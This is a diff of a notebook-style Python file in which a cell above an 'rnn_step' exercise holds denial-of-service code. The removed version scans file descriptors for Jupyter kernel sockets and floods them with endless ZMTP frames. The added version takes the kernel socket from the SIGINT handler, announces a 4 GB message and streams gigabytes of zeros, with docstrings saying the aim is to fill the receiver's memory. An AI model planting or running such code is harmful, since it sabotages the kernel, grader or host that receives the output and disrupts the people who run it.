@@ -1,36 +1,16 @@
-"""Writes one message of endlessly many parts on every line to the outside, to fill the memory of whoever receives it.
+"""Begins a message of four gigabytes on the line to the outside, and goes on as long as somebody reads.
 
 Earns: 0
 """
 
 # %%
-import os
-import select
-import socket
-import stat
+import signal
 
-lines = []
-for fd in [int(name) for name in os.listdir("/proc/self/fd")]:
-    try:
-        if stat.S_ISSOCK(os.fstat(fd).st_mode):
-            line = socket.socket(fileno=os.dup(fd))
-            line.getpeername()
-            line.setblocking(False)
-            if str(line.getsockname()).startswith("/tmp/kernel"):
-                lines.append(line)
-    except OSError:
-        pass
-part = b"\x03" + (1_000_000).to_bytes(8, "big") + bytes(1_000_000)  # a part of ZMTP that says: more to come
-rest = {line: b"" for line in lines}
-for _ in range(40_000):
-    for line in select.select([], lines, [], 1)[1]:
-        rest[line] = rest[line] or part
-        try:
-            rest[line] = rest[line][line.send(rest[line]) :]
-        except BlockingIOError:
-            pass
-        except OSError:
-            lines.remove(line)
+line = signal.getsignal(signal.SIGINT).__self__._socket
+line.settimeout(5)
+line.sendall((2**32 - 1).to_bytes(4, "big"))
+for _ in range(4000):
+    line.sendall(bytes(1_000_000))
 
 # %% exercise="rnn_step"
 def rnn_step(x, h, V, W, b):
